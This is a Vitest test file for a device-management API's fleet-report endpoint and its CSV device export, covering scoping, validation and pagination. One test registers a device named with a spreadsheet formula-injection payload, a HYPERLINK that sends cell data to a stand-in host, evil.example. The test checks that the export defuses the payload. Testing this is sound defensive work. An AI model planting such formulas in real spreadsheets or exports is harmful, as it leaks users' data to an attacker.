import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { registerDevice, type CommandId, type DeviceId, type NewDevice } from '@ward/core';
import { call, expectError, expectOk, startTestApi, type TestApi } from './support/test-api.js';

interface Overview {
  total: number;
  retired: number;
  byPlatform: Record<string, number>;
  byComplianceState: Record<string, number>;
  byOwnership: Record<string, number>;
  byManagementState: Record<string, number>;
  osVersions: { platform: string; total: number; versions: { osVersion: string | null; count: number }[]; other: number }[];
  enrollmentsPerDay: { day: string; count: number }[];
  pendingActions: Record<string, number>;
  generatedAt: string;
}

let api: TestApi;
beforeEach(async () => {
  api = await startTestApi();
});
afterEach(async () => {
  await api.close();
});

async function register(device: NewDevice): Promise<DeviceId> {
  const result = await registerDevice(api.deps, api.system, device);
  if (!result.ok) throw new Error(result.message);
  return result.value.id;
}

/** Queues a remote action the way the action use case stores one (signing is not what is counted here). */
async function queueAction(id: string, deviceId: DeviceId, type: 'lock' | 'sync' | 'retire', expiresInHours = 72): Promise<void> {
  const now = api.clock.now();
  await api.deps.stores.enqueueCommand({
    id: id as CommandId,
    tenantId: api.tenant.id,
    deviceId,
    type,
    payload: {},
    signature: 'c2lnbmF0dXJl',
    status: 'queued',
    deliveries: 0,
    requestedBy: 'globaladmin@example.test',
    createdAt: now,
    sentAt: null,
    expiresAt: new Date(now.getTime() + expiresInHours * 3_600_000),
  });
}

/** A token of `role` limited to the members of a new static device group holding `deviceIds`. */
async function scopedToken(deviceIds: readonly string[]): Promise<{ token: string }> {
  const group = expectOk<{ id: string }>(await call(api, 'POST', '/api/v1/groups', { as: 'globalAdmin', body: { name: 'Lab', memberType: 'device', membershipType: 'static' } }), 201);
  expectOk(await call(api, 'POST', `/api/v1/groups/${group.id}/members`, { as: 'globalAdmin', body: { memberIds: deviceIds } }));
  const created = expectOk<{ bearer: string }>(await call(api, 'POST', '/api/v1/tokens', { as: 'globalAdmin', body: { name: 'lab desk', role: 'helpDeskOperator', expiresInDays: 7, scopeGroupIds: [group.id] } }), 201);
  return { token: created.bearer };
}

describe('GET /reports/devices', () => {
  it('counts the fleet on the server, within the caller\'s device scope', async () => {
    const mac = await register({ name: 'Mac 1', platform: 'macos', ownership: 'corporate', facts: { osVersion: '14.5' } });
    api.clock.advance(2 * 86_400_000);
    await register({ name: 'Mac 2', platform: 'macos', ownership: 'personal', facts: { osVersion: '14.5' } });
    const win = await register({ name: 'Win 1', platform: 'windows', ownership: 'corporate', facts: { osVersion: '10.0.22631' } });
    await register({ name: 'Win 2', platform: 'windows', ownership: 'corporate', facts: { osVersion: '10.0.19045' } });
    await register({ name: 'Win 3', platform: 'windows', ownership: 'corporate', facts: { osVersion: '10.0.19044' } });
    await register({ name: 'Linux', platform: 'linux', ownership: 'unknown' });
    await queueAction('q-1', mac, 'lock');
    await queueAction('q-2', win, 'sync');
    await queueAction('q-3', win, 'lock', 0);

    const overview = expectOk<Overview>(await call(api, 'GET', '/api/v1/reports/devices?osVersionsPerPlatform=2&days=3', { as: 'readOnlyAuditor' }));
    expect(overview.total).toBe(6);
    expect(overview.retired).toBe(0);
    expect(overview.byPlatform).toEqual({ linux: 1, macos: 2, windows: 3, ios: 0, ipados: 0, android: 0 });
    expect(overview.byOwnership).toEqual({ corporate: 4, personal: 1, unknown: 1 });
    expect(overview.byComplianceState.unknown).toBe(6);
    expect(overview.byManagementState).toEqual({ enrolled: 6, retirePending: 0, retired: 0 });
    expect(overview.osVersions).toEqual([
      { platform: 'linux', total: 1, versions: [{ osVersion: null, count: 1 }], other: 0 },
      { platform: 'macos', total: 2, versions: [{ osVersion: '14.5', count: 2 }], other: 0 },
      { platform: 'windows', total: 3, versions: [{ osVersion: '10.0.22631', count: 1 }, { osVersion: '10.0.19045', count: 1 }], other: 1 },
    ]);
    // The test clock starts on 2025-03-01; two days later five devices enrolled.
    expect(overview.enrollmentsPerDay).toEqual([
      { day: '2025-03-01', count: 1 },
      { day: '2025-03-02', count: 0 },
      { day: '2025-03-03', count: 5 },
    ]);
    // The lock that expired at once is no longer waiting.
    expect(overview.pendingActions).toEqual({ sync: 1, refreshInventory: 0, lock: 1, restart: 0, runScript: 0, retire: 0, wipe: 0, clearPasscode: 0, shutdown: 0, enableLostMode: 0, disableLostMode: 0 });
    expect(overview.generatedAt).toBe(api.clock.now().toISOString());

    const defaults = expectOk<Overview>(await call(api, 'GET', '/api/v1/reports/devices', { as: 'globalAdmin' }));
    expect(defaults.enrollmentsPerDay).toHaveLength(30);
    expect(defaults.enrollmentsPerDay.at(-1)).toEqual({ day: '2025-03-03', count: 5 });
    expect(defaults.osVersions.find((p) => p.platform === 'windows')?.other).toBe(0);

    const scoped = await scopedToken([mac]);
    const mine = expectOk<Overview>(await call(api, 'GET', '/api/v1/reports/devices', { as: scoped }));
    expect(mine.total).toBe(1);
    expect(mine.byPlatform.macos).toBe(1);
    expect(mine.byPlatform.windows).toBe(0);
    expect(mine.osVersions).toEqual([{ platform: 'macos', total: 1, versions: [{ osVersion: '14.5', count: 1 }], other: 0 }]);
    expect(mine.pendingActions.lock).toBe(1);
    expect(mine.pendingActions.sync).toBe(0);
  });

  it('refuses bad queries and callers without a session, and changes nothing', async () => {
    expectError(await call(api, 'GET', '/api/v1/reports/devices'), 401, 'UNAUTHENTICATED');
    expectError(await call(api, 'GET', '/api/v1/reports/devices', { as: { token: 'wrd_at.forged.token' } }), 401, 'UNAUTHENTICATED');
    for (const query of ['days=0', 'days=91', 'days=two', 'osVersionsPerPlatform=21', 'osVersionsPerPlatform=1.5', 'since=2020-01-01', `days=${'9'.repeat(400)}`]) {
      expectError(await call(api, 'GET', `/api/v1/reports/devices?${query}`, { as: 'globalAdmin' }), 400, 'VALIDATION_FAILED');
    }
  });
});

describe('GET /devices/export.csv', () => {
  /** The data lines of a CSV answer, after checking it is a download of UTF-8 CSV with a BOM. */
  const csvLines = (body: string, headers: Record<string, unknown>): string[] => {
    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(headers['content-disposition']).toBe('attachment; filename="devices.csv"');
    expect(body.startsWith('\uFEFFid,name,platform,osVersion,ownership,managementState,complianceState,serialNumber,model,manufacturer,primaryUserId,enrolledAt,lastSeenAt\r\n')).toBe(true);
    return body.slice(1).split('\r\n').slice(1, -1);
  };

  it('writes the filtered, searched and sorted list, formula cells defused, across pages', async () => {
    const hostile = await register({ name: '=HYPERLINK("https://evil.example/?x="&A1,"open")', platform: 'windows', ownership: 'corporate', serialNumber: '+SN-1', model: 'Model, "quoted"', facts: { osVersion: '10.0.22631' } });
    await register({ name: 'Mac', platform: 'macos', ownership: 'corporate', serialNumber: 'C02', facts: { osVersion: '14.5' } });
    await register({ name: 'Linux kiosk', platform: 'linux', ownership: 'corporate', model: 'NUC' });

    const all = await call(api, 'GET', '/api/v1/devices/export.csv?sort=name', { as: 'readOnlyAuditor' });
    expect(all.statusCode).toBe(200);
    const lines = csvLines(all.body, all.headers);
    expect(lines).toHaveLength(3);
    expect(lines[0]).toBe(`${hostile},"'=HYPERLINK(""https://evil.example/?x=""&A1,""open"")",windows,10.0.22631,corporate,enrolled,unknown,'+SN-1,"Model, ""quoted""",,,2025-03-01T09:00:00.000Z,2025-03-01T09:00:00.000Z`);
    expect(lines.map((l) => l.split(',')[1])).toEqual([expect.stringContaining('HYPERLINK'), 'Linux kiosk', 'Mac']);

    const filtered = await call(api, 'GET', '/api/v1/devices/export.csv?platform=macos,linux&sort=name&order=desc', { as: 'globalAdmin' });
    expect(csvLines(filtered.body, filtered.headers).map((l) => l.split(',')[1])).toEqual(['Mac', 'Linux kiosk']);
    const searched = await call(api, 'GET', '/api/v1/devices/export.csv?q=kiosk', { as: 'globalAdmin' });
    expect(csvLines(searched.body, searched.headers).map((l) => l.split(',')[1])).toEqual(['Linux kiosk']);
    const none = await call(api, 'GET', '/api/v1/devices/export.csv?osVersionMin=99', { as: 'globalAdmin' });
    expect(csvLines(none.body, none.headers)).toEqual([]);

    // More devices than the largest page: the export follows the cursor to the end, in order.
    for (let i = 0; i < 520; i++) await register({ name: `Bulk ${String(i).padStart(3, '0')}`, platform: 'android', ownership: 'corporate' });
    const bulk = await call(api, 'GET', '/api/v1/devices/export.csv?platform=android', { as: 'globalAdmin' });
    const names = csvLines(bulk.body, bulk.headers).map((l) => l.split(',')[1]);
    expect(names).toHaveLength(520);
    expect(names).toEqual([...names].sort());
    expect(new Set(names).size).toBe(520);
  });

  it('exports only the devices of a scoped caller', async () => {
    const mac = await register({ name: 'Mine', platform: 'macos', ownership: 'corporate' });
    await register({ name: 'Not mine', platform: 'macos', ownership: 'corporate' });
    const scoped = await scopedToken([mac]);
    const answer = await call(api, 'GET', '/api/v1/devices/export.csv', { as: scoped });
    expect(csvLines(answer.body, answer.headers).map((l) => l.split(',')[1])).toEqual(['Mine']);
  });

  it('answers a bad filter or caller with a JSON error, not a partial file', async () => {
    expectError(await call(api, 'GET', '/api/v1/devices/export.csv'), 401, 'UNAUTHENTICATED');
    expectError(await call(api, 'GET', '/api/v1/devices/export.csv?osVersionMin=abc', { as: 'globalAdmin' }), 400, 'INVALID_FILTER');
    for (const query of ['platform=beos', 'limit=10', 'cursor=abc', 'sort=serial', `q=${'x'.repeat(201)}`, 'lastSeenAfter=yesterday']) {
      expectError(await call(api, 'GET', `/api/v1/devices/export.csv?${query}`, { as: 'globalAdmin' }), 400, 'VALIDATION_FAILED');
    }
  });
});
